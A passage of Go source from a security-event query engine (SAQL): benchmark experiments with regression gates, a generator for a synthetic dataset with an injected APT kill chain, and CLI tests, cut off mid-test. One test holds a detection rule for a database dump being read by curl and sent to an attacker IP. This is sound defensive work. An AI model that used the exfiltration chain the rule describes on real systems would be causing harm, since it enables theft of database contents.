		label, float64(wall.Nanoseconds())/float64(len(events)),
		float64(len(events))/wall.Seconds(), st.WindowsClosed)
}

// --- E7 ---------------------------------------------------------------------

func e7() {
	header("E7  Outlier model: DBSCAN vs KMEANS, parameter sensitivity")
	// Synthetic windows: one point per group, with one planted outlier.
	mkEvents := func(groups int) []*saql.Event {
		var out []*saql.Event
		for w := 0; w < 32; w++ {
			at := streamStart.Add(time.Duration(w) * 10 * time.Second)
			for g := 0; g < groups; g++ {
				amt := 50000 + float64(g%7)*300
				if g == groups-1 {
					amt = 5e7 // the exfiltration peer
				}
				out = append(out, &saql.Event{
					Time:    at.Add(time.Duration(g) * time.Millisecond),
					AgentID: "db-1",
					Subject: saql.Process("sqlservr.exe", 1680),
					Op:      saql.OpWrite,
					Object:  saql.NetConn("10.0.0.2", 1433, fmt.Sprintf("10.0.%d.%d", g/250, g%250), 49000),
					Amount:  amt,
				})
			}
		}
		return out
	}
	fmt.Printf("%-24s %8s %12s %14s %10s\n", "method", "groups", "ns/event", "events/s", "alerts")
	for _, method := range []string{"DBSCAN(100000, 3)", "KMEANS(3)"} {
		for _, groups := range []int{16, 64, 256, 1024} {
			evs := mkEvents(groups)
			src := fmt.Sprintf(`proc p write ip i as evt #time(10 s)
state ss { amt := sum(evt.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="ed", method=%q)
alert cluster.outlier && ss.amt > 1000000
return i.dstip, ss.amt`, method)
			q, err := saql.CompileQuery("clu", src)
			if err != nil {
				panic(err)
			}
			var alerts int
			t0 := time.Now()
			for _, ev := range evs {
				alerts += len(q.Process(ev, nil))
			}
			alerts += len(q.Flush(nil))
			wall := time.Since(t0)
			fmt.Printf("%-24s %8d %12.0f %14.0f %10d\n",
				method, groups, float64(wall.Nanoseconds())/float64(len(evs)),
				float64(len(evs))/wall.Seconds(), alerts)
		}
	}
	// DBSCAN eps sensitivity on detection of the planted outlier.
	fmt.Printf("\n%-24s %10s\n", "DBSCAN eps", "outlier windows detected (of 32)")
	for _, eps := range []int{1000, 10000, 100000, 1000000, 100000000} {
		evs := mkEvents(64)
		src := fmt.Sprintf(`proc p write ip i as evt #time(10 s)
state ss { amt := sum(evt.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="ed", method="DBSCAN(%d, 3)")
alert cluster.outlier && ss.amt > 1000000
return i.dstip`, eps)
		q, err := saql.CompileQuery("eps", src)
		if err != nil {
			panic(err)
		}
		var alerts int
		for _, ev := range evs {
			alerts += len(q.Process(ev, nil))
		}
		alerts += len(q.Flush(nil))
		fmt.Printf("%-24d %10d\n", eps, alerts)
	}
	fmt.Println("shape check: the planted peer is detected across a wide eps range;")
	fmt.Println("an absurdly large eps absorbs it into the cluster (0 windows).")
}

// --- E8 ---------------------------------------------------------------------

func e8() {
	header("E8  Language frontend: parse/compile throughput (interactive CLI)")
	scenario := &saql.AttackScenario{Start: streamStart}
	queries := scenario.DemoQueries(*window, *train)
	const rounds = 2000
	t0 := time.Now()
	for i := 0; i < rounds; i++ {
		nq := queries[i%len(queries)]
		if err := saql.Validate(nq.SAQL); err != nil {
			panic(err)
		}
	}
	validateRate := float64(rounds) / time.Since(t0).Seconds()
	t0 = time.Now()
	for i := 0; i < rounds; i++ {
		nq := queries[i%len(queries)]
		if _, err := saql.CompileQuery(nq.Name, nq.SAQL); err != nil {
			panic(err)
		}
	}
	compileRate := float64(rounds) / time.Since(t0).Seconds()
	fmt.Printf("validate: %8.0f queries/s\n", validateRate)
	fmt.Printf("compile : %8.0f queries/s\n", compileRate)
	fmt.Println("shape check: thousands of queries/s — far beyond interactive needs.")
}

// --- E9 ---------------------------------------------------------------------

// e9Config is one measured configuration of the E9 experiment; e9Report is
// the BENCH_e9.json schema CI records (and gates against) per commit.
type e9Config struct {
	Name                 string  `json:"name"`
	Shards               int     `json:"shards"` // 0 = serial Process path
	EventsPerSec         float64 `json:"events_per_sec"`
	Alerts               int64   `json:"alerts"`
	PatternEvalsPerEvent float64 `json:"pattern_evals_per_event"`
	AllocsPerEvent       float64 `json:"allocs_per_event"`
	// NsPerEvent is wall time per event; NsPerPatternEval divides it by the
	// nominal pattern evaluations per event — the per-pattern ns/event that
	// the compiled-vs-interpreted A/B gate compares.
	NsPerEvent       float64 `json:"ns_per_event"`
	NsPerPatternEval float64 `json:"ns_per_pattern_eval"`
}

type e9Report struct {
	Events     int `json:"events"`
	Queries    int `json:"queries"`
	GoMaxProcs int `json:"gomaxprocs"`
	// GoMaxProcsMC is the width of the multi-core pass (the mc- configs):
	// the machine's full core count, independent of how CI pinned the
	// single-core pass.
	GoMaxProcsMC int        `json:"gomaxprocs_multicore"`
	Configs      []e9Config `json:"configs"`
}

func (r *e9Report) config(name string) *e9Config {
	for i := range r.Configs {
		if r.Configs[i].Name == name {
			return &r.Configs[i]
		}
	}
	return nil
}

func e9() {
	header("E9  Concurrent ingestion: sharded runtime vs serial Process")
	events, scenario, _ := buildStream()
	base := scenario.DemoQueries(*window, *train)[6] // sharable time-series family
	queries := make([]saql.NamedQuery, 16)
	for i := range queries {
		queries[i] = base
		queries[i].Name = fmt.Sprintf("v%d", i)
		queries[i].SAQL = base.SAQL + fmt.Sprintf("\nalert ss[0].avg_amount > %d", 1000000+i*1000)
	}
	report := e9Report{Events: len(events), Queries: len(queries), GoMaxProcs: runtime.GOMAXPROCS(0)}

	fmt.Printf("%d sharable queries (placement=by-group), %d events, GOMAXPROCS=%d\n\n",
		len(queries), len(events), runtime.GOMAXPROCS(0))
	e9Pass(&report, "", queries, events)

	// Multi-core pass: the same measurement at the machine's full width,
	// recorded as mc- configs in the same report. CI pins the primary pass
	// to GOMAXPROCS=1 for stable single-core numbers; this pass answers the
	// scaling question on whatever cores the box actually has.
	ncpu := runtime.NumCPU()
	report.GoMaxProcsMC = ncpu
	prev := runtime.GOMAXPROCS(ncpu)
	fmt.Printf("\nmulti-core pass: GOMAXPROCS=%d\n\n", ncpu)
	e9Pass(&report, "mc-", queries, events)
	runtime.GOMAXPROCS(prev)

	fmt.Println("\nshape check: identical alert counts in every configuration; shared")
	fmt.Println("evaluation keeps patevals/ev flat as shards grow; with GOMAXPROCS >=")
	fmt.Println("shards, sharded throughput exceeds serial.")

	if *jsonOut != "" {
		buf, err := json.MarshalIndent(&report, "", "  ")
		if err != nil {
			panic(err)
		}
		if err := os.WriteFile(*jsonOut, append(buf, '\n'), 0o644); err != nil {
			fmt.Fprintf(os.Stderr, "e9: write %s: %v\n", *jsonOut, err)
			os.Exit(1)
		}
		fmt.Printf("\nwrote %s\n", *jsonOut)
	}
	if err := e9Gate(&report); err != nil {
		fmt.Fprintf(os.Stderr, "\nE9 REGRESSION GATE FAILED: %v\n", err)
		os.Exit(1)
	}
}

// e9Pass measures the serial path and every shard width once, recording
// each configuration into report under prefix ("" for the pinned primary
// pass, "mc-" for the full-width multi-core pass).
func e9Pass(report *e9Report, prefix string, queries []saql.NamedQuery, events []*saql.Event) {
	fmt.Printf("%14s | %14s | %10s | %12s | %10s | %10s\n",
		"configuration", "events/s", "alerts", "patevals/ev", "allocs/ev", "speedup")

	mkEngine := func(opts ...saql.Option) *saql.Engine {
		eng := saql.New(opts...)
		for _, nq := range queries {
			if _, err := eng.Register(nq.Name, nq.SAQL); err != nil {
				panic(err)
			}
		}
		return eng
	}
	mallocs := func() uint64 {
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		return ms.Mallocs
	}
	record := func(name string, shards int, rate float64, allocs uint64, st saql.Stats) e9Config {
		cfg := e9Config{
			Name:           prefix + name,
			Shards:         shards,
			EventsPerSec:   rate,
			Alerts:         st.Alerts,
			AllocsPerEvent: float64(allocs) / float64(len(events)),
		}
		if st.Events > 0 {
			cfg.PatternEvalsPerEvent = float64(st.PatternEvals) / float64(st.Events)
		}
		if rate > 0 {
			cfg.NsPerEvent = 1e9 / rate
			if cfg.PatternEvalsPerEvent > 0 {
				cfg.NsPerPatternEval = cfg.NsPerEvent / cfg.PatternEvalsPerEvent
			}
		}
		report.Configs = append(report.Configs, cfg)
		return cfg
	}

	serial := mkEngine()
	m0 := mallocs()
	t0 := time.Now()
	for _, ev := range events {
		serial.Process(ev)
	}
	serial.Flush()
	serialRate := float64(len(events)) / time.Since(t0).Seconds()
	sc := record("serial", 0, serialRate, mallocs()-m0, serial.Stats())
	fmt.Printf("%14s | %14.0f | %10d | %12.2f | %10.1f | %10s\n",
		prefix+"serial", serialRate, sc.Alerts, sc.PatternEvalsPerEvent, sc.AllocsPerEvent, "1.0x")

	// Interpreted A/B leg: the identical serial run with bytecode compilation
	// force-disabled, isolating what the pcode compiler buys per pattern
	// evaluation. The gate requires compiled <= interpreted on per-pattern
	// ns/event and identical alerts.
	interp := mkEngine(saql.WithCompileOptions(saql.CompileOptions{Interpret: true}))
	m0 = mallocs()
	t0 = time.Now()
	for _, ev := range events {
		interp.Process(ev)
	}
	interp.Flush()
	interpRate := float64(len(events)) / time.Since(t0).Seconds()
	ic := record("interpreted", 0, interpRate, mallocs()-m0, interp.Stats())
	fmt.Printf("%14s | %14.0f | %10d | %12.2f | %10.1f | %9.1fx\n",
		prefix+"interp", interpRate, ic.Alerts, ic.PatternEvalsPerEvent, ic.AllocsPerEvent, interpRate/serialRate)
	if ic.NsPerPatternEval > 0 && sc.NsPerPatternEval > 0 {
		fmt.Printf("%14s   compiled %.0f ns vs interpreted %.0f ns per pattern-eval (%.0f%% faster)\n",
			"", sc.NsPerPatternEval, ic.NsPerPatternEval, 100*(1-sc.NsPerPatternEval/ic.NsPerPatternEval))
	}

	for _, shards := range []int{1, 2, 4, 8} {
		eng := mkEngine(saql.WithShards(shards), saql.WithIngestQueue(64))
		if err := eng.Start(benchContext()); err != nil {
			panic(err)
		}
		const batch = 512
		m0 := mallocs()
		t0 := time.Now()
		for i := 0; i < len(events); i += batch {
			end := i + batch
			if end > len(events) {
				end = len(events)
			}
			if err := eng.SubmitBatch(events[i:end]); err != nil {
				panic(err)
			}
		}
		if err := eng.Close(); err != nil {
			panic(err)
		}
		rate := float64(len(events)) / time.Since(t0).Seconds()
		cfg := record(fmt.Sprintf("shards=%d", shards), shards, rate, mallocs()-m0, eng.Stats())
		fmt.Printf("%14s | %14.0f | %10d | %12.2f | %10.1f | %9.1fx\n",
			fmt.Sprintf("%s%dsh", prefix, shards), rate, cfg.Alerts, cfg.PatternEvalsPerEvent, cfg.AllocsPerEvent, rate/serialRate)
	}
}

// e9Gate enforces the perf trajectory: the structural invariant (shared
// evaluation keeps per-event pattern work flat in the shard count) always,
// and events/s against the checked-in baseline when -baseline is given.
func e9Gate(cur *e9Report) error {
	// Structural gate, machine-independent, for both passes: at the widest
	// configuration the scheduler must not re-evaluate patterns per shard.
	for _, prefix := range []string{"", "mc-"} {
		serial, widest := cur.config(prefix+"serial"), cur.config(prefix+"shards=8")
		if serial != nil && widest != nil && serial.PatternEvalsPerEvent > 0 {
			if widest.PatternEvalsPerEvent > 1.2*serial.PatternEvalsPerEvent {
				return fmt.Errorf("%sshards=8 pattern evals/event %.2f exceeds 1.2x serial %.2f",
					prefix, widest.PatternEvalsPerEvent, serial.PatternEvalsPerEvent)
			}
		}
	}
	// Compiled-vs-interpreted gate, machine-independent: the bytecode path
	// must never be slower than the tree-walking evaluators it replaces, and
	// must raise the identical alerts.
	for _, prefix := range []string{"", "mc-"} {
		comp, interp := cur.config(prefix+"serial"), cur.config(prefix+"interpreted")
		if comp == nil || interp == nil {
			continue
		}
		if comp.Alerts != interp.Alerts {
			return fmt.Errorf("%sinterpreted raised %d alerts, compiled %d (must be identical)",
				prefix, interp.Alerts, comp.Alerts)
		}
		if interp.NsPerPatternEval > 0 && comp.NsPerPatternEval > interp.NsPerPatternEval {
			return fmt.Errorf("%scompiled per-pattern ns/event %.0f exceeds interpreted %.0f",
				prefix, comp.NsPerPatternEval, interp.NsPerPatternEval)
		}
	}
	// Multi-core scaling gate, machine-independent: partitioned routing must
	// make shards pay off. On a box wide enough to actually run the workers
	// in parallel, the mc- pass must be monotonically non-decreasing from
	// serial through 8 shards (10% noise tolerance per step) and 8 shards
	// must reach at least 3x serial. A narrower machine skips visibly: the
	// numbers would measure scheduling overhead, not scaling.
	if cur.GoMaxProcsMC >= 8 {
		order := []string{"mc-serial", "mc-shards=1", "mc-shards=2", "mc-shards=4", "mc-shards=8"}
		var prev *e9Config
		for _, name := range order {
			c := cur.config(name)
			if c == nil {
				continue
			}
			if prev != nil && c.EventsPerSec < prev.EventsPerSec*0.9 {
				return fmt.Errorf("multi-core scaling: %s at %.0f events/s falls below %s at %.0f (want monotonically non-decreasing, 10%% tolerance)",
					c.Name, c.EventsPerSec, prev.Name, prev.EventsPerSec)
			}
			prev = c
		}
		serial, widest := cur.config("mc-serial"), cur.config("mc-shards=8")
		if serial != nil && widest != nil && serial.EventsPerSec > 0 {
			if widest.EventsPerSec < 3*serial.EventsPerSec {
				return fmt.Errorf("multi-core scaling: 8 shards at %.0f events/s is under 3x serial %.0f (%.1fx)",
					widest.EventsPerSec, serial.EventsPerSec, widest.EventsPerSec/serial.EventsPerSec)
			}
			fmt.Printf("multi-core scaling gate passed: 8 shards at %.1fx serial on %d cores\n",
				widest.EventsPerSec/serial.EventsPerSec, cur.GoMaxProcsMC)
		}
	} else {
		fmt.Printf("multi-core scaling gate skipped: needs >= 8 cores to run 8 shard workers in parallel, this machine has %d\n",
			cur.GoMaxProcsMC)
	}
	if err := e9BaselineGate(cur, *baseline, ""); err != nil {
		return err
	}
	return e9BaselineGate(cur, *mcBaseline, "mc-")
}

// e9BaselineGate compares one pass's configs (selected by prefix) against a
// checked-in baseline. Absolute events/s only compares like with like, so a
// GOMAXPROCS mismatch — for the mc- pass, a different core count — skips
// the comparison visibly instead of failing every commit on new hardware.
func e9BaselineGate(cur *e9Report, path, prefix string) error {
	if path == "" {
		return nil
	}
	buf, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("read baseline: %w", err)
	}
	var base e9Report
	if err := json.Unmarshal(buf, &base); err != nil {
		return fmt.Errorf("parse baseline %s: %w", path, err)
	}
	baseProcs, curProcs := base.GoMaxProcs, cur.GoMaxProcs
	if prefix == "mc-" {
		baseProcs, curProcs = base.GoMaxProcsMC, cur.GoMaxProcsMC
	}
	if baseProcs != curProcs {
		if prefix == "mc-" {
			fmt.Printf("multi-core baseline gate skipped: %s recorded gomaxprocs_multicore=%d, this machine runs the mc- pass on %d cores — refresh it on this hardware class\n",
				path, baseProcs, curProcs)
		} else {
			fmt.Printf("baseline gate skipped: baseline recorded GOMAXPROCS=%d, this run has GOMAXPROCS=%d — refresh %s on this hardware class\n",
				baseProcs, curProcs, path)
		}
		return nil
	}
	for _, bc := range base.Configs {
		if strings.HasPrefix(bc.Name, "mc-") != (prefix == "mc-") {
			continue
		}
		cc := cur.config(bc.Name)
		if cc == nil || bc.EventsPerSec <= 0 {
			continue
		}
		floor := bc.EventsPerSec * (1 - *maxRegress)
		if cc.EventsPerSec < floor {
			return fmt.Errorf("%s: %.0f events/s is below %.0f (baseline %.0f - %.0f%% tolerance)",
				bc.Name, cc.EventsPerSec, floor, bc.EventsPerSec, *maxRegress*100)
		}
	}
	fmt.Printf("baseline gate passed (tolerance %.0f%%, %s)\n", *maxRegress*100, path)
	return nil
}

func benchContext() context.Context { return context.Background() }
