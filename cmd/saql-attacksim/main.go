// Command saql-attacksim generates the demonstration dataset of the paper:
// deterministic background activity for a small enterprise (workstations,
// mail server, web server, database server, domain controller) with the
// five-step APT kill chain injected, and writes it to an event store for
// later replay (see cmd/saql-replayer).
//
// Usage:
//
//	saql-attacksim -out ./data -duration 30m -seed 42 -attack-at 12m
//	saql-attacksim -out ./data -ground-truth   # also print the labelled attack events
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"
	"time"

	"saql"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "saql-attacksim:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		out         = flag.String("out", "", "store directory to write (required)")
		duration    = flag.Duration("duration", 30*time.Minute, "background duration")
		seed        = flag.Int64("seed", 42, "workload seed")
		attackAt    = flag.Duration("attack-at", 12*time.Minute, "attack start offset into the stream")
		stepGap     = flag.Duration("step-gap", 90*time.Second, "gap between attack steps")
		startStr    = flag.String("start", "2020-02-27T09:00:00Z", "stream start time (RFC3339)")
		groundTruth = flag.Bool("ground-truth", false, "print the labelled attack events")
		noAttack    = flag.Bool("benign", false, "generate background only (no attack)")
	)
	flag.Parse()
	if *out == "" {
		return fmt.Errorf("-out is required")
	}
	start, err := time.Parse(time.RFC3339, *startStr)
	if err != nil {
		return fmt.Errorf("bad -start: %w", err)
	}

	wl, err := saql.NewWorkload(saql.WorkloadConfig{
		Hosts: []saql.Host{
			{AgentID: "ws-victim", Kind: saql.Workstation},
			{AgentID: "ws-2", Kind: saql.Workstation},
			{AgentID: "mail-1", Kind: saql.MailServer},
			{AgentID: "web-1", Kind: saql.WebServer},
			{AgentID: "db-1", Kind: saql.DBServer},
			{AgentID: "dc-1", Kind: saql.DomainController},
		},
		Start: start, Duration: *duration, Seed: *seed,
	})
	if err != nil {
		return err
	}
	events := wl.Drain()

	if !*noAttack {
		scenario := &saql.AttackScenario{
			Workstation: "ws-victim", MailServer: "mail-1", DBServer: "db-1",
			AttackerIP: "172.16.0.129",
			Start:      start.Add(*attackAt), StepGap: *stepGap,
		}
		labeled := scenario.Events()
		if *groundTruth {
			fmt.Println("--- ground-truth attack events ---")
			for _, l := range labeled {
				fmt.Printf("[%s] %s\n", l.Step, l.Event)
			}
		}
		events = append(events, saql.AttackEventsOnly(labeled)...)
	}
	sort.SliceStable(events, func(i, j int) bool { return events[i].Time.Before(events[j].Time) })

	store, err := saql.OpenStore(*out, saql.StoreOptions{})
	if err != nil {
		return err
	}
	if err := store.AppendAll(events); err != nil {
		return err
	}
	if err := store.Close(); err != nil {
		return err
	}
	fmt.Printf("wrote %d events (%s .. %s) to %s\n",
		len(events), events[0].Time.Format(time.RFC3339), events[len(events)-1].Time.Format(time.RFC3339), *out)
	return nil
}
