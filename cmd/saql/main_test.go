package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"saql/internal/admin"
)

const samplePath = "../../examples/auditd-replay/sample.log"

// The acceptance path of the ingestion layer: `saql -input sample.log
// -format auditd -q <query>` must produce alerts.
func TestRunInputAuditdSample(t *testing.T) {
	var out strings.Builder
	err := run([]string{
		"-input", samplePath,
		"-format", "auditd",
		"-agent", "db-1",
		"-e", `
agentid = "db-1"
proc p1["%mysqldump"] write file f1["%dump.sql"] as evt1
proc p2["%curl"] read file f1 as evt2
proc p2 connect ip i1[dstip="172.16.0.129"] as evt3
with evt1 -> evt2 -> evt3
return distinct p1, f1, p2, i1`,
	}, &out)
	if err != nil {
		t.Fatalf("run: %v\noutput:\n%s", err, out.String())
	}
	got := out.String()
	if !strings.Contains(got, "ALERT [rule] query=inline-1") {
		t.Errorf("no alert in output:\n%s", got)
	}
	if !strings.Contains(got, "alerts raised    : 1") {
		t.Errorf("summary missing alert count:\n%s", got)
	}
	// The deliberately malformed line in the sample surfaces in the
	// per-source accounting.
	if !strings.Contains(got, "1 undecodable") {
		t.Errorf("summary missing decode-error count:\n%s", got)
	}
}

func TestRunInputRejectsSerialPath(t *testing.T) {
	var out strings.Builder
	err := run([]string{"-shards", "0", "-input", samplePath, "-format", "auditd", "-e", "proc p start proc q return p, q"}, &out)
	if err == nil || !strings.Contains(err.Error(), "concurrent runtime") {
		t.Fatalf("err = %v, want concurrent-runtime error", err)
	}
}

func TestRunInputUnknownFormat(t *testing.T) {
	var out strings.Builder
	err := run([]string{"-input", samplePath, "-format", "syslog", "-e", "proc p start proc q return p, q"}, &out)
	if err == nil || !strings.Contains(err.Error(), "unknown format") {
		t.Fatalf("err = %v, want unknown-format error", err)
	}
}

// The README's simulation command stays runnable.
func TestRunSimulateDemoQueries(t *testing.T) {
	var out strings.Builder
	err := run([]string{"-simulate", "-duration", "2m", "-demo-queries", "-quiet"}, &out)
	if err != nil {
		t.Fatalf("run: %v\noutput:\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "registered 8 queries") {
		t.Errorf("demo queries not registered:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "concurrent runtime:") {
		t.Errorf("concurrent runtime is not the default path:\n%s", out.String())
	}
}

// writeRule drops a rule file into dir.
func writeRule(t *testing.T, dir, name, src string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
}

const plainRule = `proc p write ip i as e
alert e.amount > 1000000
return p, e.amount`

const setRules = `param limit = 500
query dir-sum {
  proc p write ip i as e #time(1 min)
  state ss { amt := sum(e.amount) } group by p
  alert ss.amt > $limit
  return p, ss.amt
}
query dir-reads {
  proc p read file f return p, f
}`

func TestLoadQueryDir(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "big-write.saql", plainRule)
	writeRule(t, dir, "pack.saql", setRules)
	writeRule(t, dir, "ignored.txt", "not saql")
	set, err := loadQueryDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	// Files load in sorted order (deterministic pinned placement); names
	// within a file keep declaration order.
	want := []string{"big-write", "dir-sum", "dir-reads"}
	got := set.Names()
	if len(got) != len(want) {
		t.Fatalf("names = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("names = %v, want %v", got, want)
		}
	}
	if src, ok := set.Source("dir-sum"); !ok || !strings.Contains(src, "> 500") {
		t.Errorf("param not substituted: %q", src)
	}
	// A broken file fails the whole load with the file named.
	writeRule(t, dir, "broken.saql", "not a query")
	if _, err := loadQueryDir(dir); err == nil || !strings.Contains(err.Error(), "broken.saql") {
		t.Errorf("err = %v, want named broken file", err)
	}
}

// -queries registers the directory's rules through Engine.Apply and prints
// the change report.
func TestRunQueriesDir(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "big-write.saql", plainRule)
	writeRule(t, dir, "pack.saql", setRules)
	var out strings.Builder
	if err := run([]string{"-queries", dir, "-simulate", "-duration", "1m", "-quiet"}, &out); err != nil {
		t.Fatalf("run: %v\noutput:\n%s", err, out.String())
	}
	got := out.String()
	if !strings.Contains(got, "applied query set: 3 added") {
		t.Errorf("missing change report:\n%s", got)
	}
	if !strings.Contains(got, "registered 3 queries") {
		t.Errorf("missing registration summary:\n%s", got)
	}
}

// syncWriter makes the shared output buffer safe against the SIGHUP
// goroutine writing concurrently with run.
type syncWriter struct {
	mu sync.Mutex
	sb strings.Builder
}

func (w *syncWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.sb.Write(p)
}

func (w *syncWriter) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.sb.String()
}

// The SIGHUP path end to end: run tails a live input, the rule directory
// changes underneath it, SIGHUP reconciles (add + hot-swap), SIGTERM ends
// the run cleanly.
func TestRunSIGHUPReApply(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "big-write.saql", plainRule)
	logf := filepath.Join(t.TempDir(), "events.ndjson")
	if err := os.WriteFile(logf, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	out := &syncWriter{}
	done := make(chan error, 1)
	go func() {
		done <- run([]string{"-queries", dir, "-input", logf, "-follow", "-quiet"}, out)
	}()
	waitFor := func(substr string) {
		t.Helper()
		deadline := time.Now().Add(10 * time.Second)
		for !strings.Contains(out.String(), substr) {
			if time.Now().After(deadline) {
				t.Fatalf("timed out waiting for %q in output:\n%s", substr, out.String())
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	waitFor("concurrent runtime:")

	// Tighten the existing rule and drop a new pack in, then reload.
	writeRule(t, dir, "big-write.saql", strings.Replace(plainRule, "1000000", "2000000", 1))
	writeRule(t, dir, "pack.saql", setRules)
	if err := syscall.Kill(os.Getpid(), syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	waitFor("reloaded queries:")
	got := out.String()
	if !strings.Contains(got, "2 added (dir-reads, dir-sum)") || !strings.Contains(got, "1 updated (big-write)") {
		t.Errorf("reload report wrong:\n%s", got)
	}

	// SIGTERM is the live-mode shutdown path: the run must flush and exit
	// cleanly.
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("run: %v\noutput:\n%s", err, out.String())
		}
	case <-time.After(10 * time.Second):
		t.Fatalf("run did not exit after SIGTERM:\n%s", out.String())
	}
}

// The admin control plane end to end: run tails a live input with
// -admin-addr, the admin DSL lists the registered queries over HTTP, an
// unconfirmed mutation is refused, a confirmed pause/resume round-trips,
// and SIGTERM still shuts the whole process down cleanly with the admin
// listener attached.
func TestRunAdminAPI(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "big-write.saql", plainRule)
	writeRule(t, dir, "pack.saql", setRules)
	logf := filepath.Join(t.TempDir(), "events.ndjson")
	if err := os.WriteFile(logf, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	out := &syncWriter{}
	done := make(chan error, 1)
	go func() {
		done <- run([]string{
			"-queries", dir, "-input", logf, "-follow", "-quiet",
			"-admin-addr", "127.0.0.1:0",
		}, out)
	}()
	waitFor := func(substr string) string {
		t.Helper()
		deadline := time.Now().Add(10 * time.Second)
		for !strings.Contains(out.String(), substr) {
			if time.Now().After(deadline) {
				t.Fatalf("timed out waiting for %q in output:\n%s", substr, out.String())
			}
			time.Sleep(10 * time.Millisecond)
		}
		return out.String()
	}
	got := waitFor("admin API listening on ")
	_, rest, _ := strings.Cut(got, "admin API listening on ")
	addr := strings.TrimSpace(strings.SplitN(rest, "\n", 2)[0])

	resp, err := admin.Query(addr, `list(queries){id tenant paused}`, false, nil)
	if err != nil {
		t.Fatalf("list(queries): %v", err)
	}
	if len(resp.Items) != 3 {
		t.Fatalf("listed %d queries, want 3: %+v", len(resp.Items), resp.Items)
	}
	if id := resp.Items[0]["id"]; id != "big-write" {
		t.Errorf("first query = %v, want big-write (sorted)", id)
	}

	// Mutations without confirm are refused and change nothing.
	if _, err := admin.Query(addr, `pause(dir-sum)`, false, nil); err == nil ||
		!strings.Contains(err.Error(), "confirm") {
		t.Fatalf("unconfirmed pause error = %v, want confirm refusal", err)
	}
	if _, err := admin.Query(addr, `pause(dir-sum)`, true, nil); err != nil {
		t.Fatalf("confirmed pause: %v", err)
	}
	resp, err = admin.Query(addr, `get(dir-sum){id paused}`, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	if paused, _ := resp.Item["paused"].(bool); !paused {
		t.Errorf("pause did not stick: %+v", resp.Item)
	}
	if _, err := admin.Query(addr, `resume(dir-sum)`, true, nil); err != nil {
		t.Fatalf("resume: %v", err)
	}
	resp, err = admin.Query(addr, `get(dir-sum){paused}`, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	if paused, _ := resp.Item["paused"].(bool); paused {
		t.Errorf("resume did not stick: %+v", resp.Item)
	}

	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("run: %v\noutput:\n%s", err, out.String())
		}
	case <-time.After(10 * time.Second):
		t.Fatalf("run did not exit after SIGTERM:\n%s", out.String())
	}
}

func TestRunValidate(t *testing.T) {
	var out strings.Builder
	if err := run([]string{"-validate", "-e", "proc p read file f return p, f"}, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "OK") {
		t.Errorf("validate output:\n%s", out.String())
	}
}

// TestRunCheckpointDir exercises the durable flags end to end: a first run
// journals its simulated stream into -checkpoint-dir and writes a final
// checkpoint; a second run restores from it (replaying the journaled tail
// past the snapshot offset — here none, since the final checkpoint covers
// the whole stream) and keeps operating.
func TestRunCheckpointDir(t *testing.T) {
	dir := t.TempDir()
	var out1 strings.Builder
	err := run([]string{
		"-simulate", "-duration", "1m", "-quiet",
		"-checkpoint-dir", dir, "-checkpoint-every", "50ms",
		"-e", plainRule,
	}, &out1)
	if err != nil {
		t.Fatalf("run 1: %v\noutput:\n%s", err, out1.String())
	}
	if !strings.Contains(out1.String(), "checkpoint written:") {
		t.Errorf("no final checkpoint in run 1:\n%s", out1.String())
	}

	var out2 strings.Builder
	err = run([]string{
		"-simulate", "-duration", "1m", "-quiet",
		"-checkpoint-dir", dir,
		"-e", plainRule,
	}, &out2)
	if err != nil {
		t.Fatalf("run 2: %v\noutput:\n%s", err, out2.String())
	}
	got := out2.String()
	if !strings.Contains(got, "restored 1 queries from") {
		t.Errorf("run 2 did not restore:\n%s", got)
	}
	if !strings.Contains(got, "checkpoint written:") {
		t.Errorf("run 2 wrote no checkpoint:\n%s", got)
	}
	// The restored registry matches the rule set: Apply reports no changes,
	// so no "applied query set" line.
	if strings.Contains(got, "applied query set:") {
		t.Errorf("restored registry was perturbed by Apply:\n%s", got)
	}

	// The serial path supports the flag too (restore without start).
	var out3 strings.Builder
	err = run([]string{
		"-simulate", "-duration", "1m", "-quiet", "-shards", "0",
		"-checkpoint-dir", dir,
		"-e", plainRule,
	}, &out3)
	if err != nil {
		t.Fatalf("run 3 (serial): %v\noutput:\n%s", err, out3.String())
	}
	if !strings.Contains(out3.String(), "restored 1 queries from") {
		t.Errorf("serial run did not restore:\n%s", out3.String())
	}

	// A journal without a snapshot — the shape a crash before the first
	// checkpoint leaves behind — is recovered by replaying every orphaned
	// record, not by silently discarding it.
	if err := os.Remove(filepath.Join(dir, "checkpoint.ckpt")); err != nil {
		t.Fatal(err)
	}
	var out4 strings.Builder
	err = run([]string{
		"-simulate", "-duration", "1m", "-quiet",
		"-checkpoint-dir", dir,
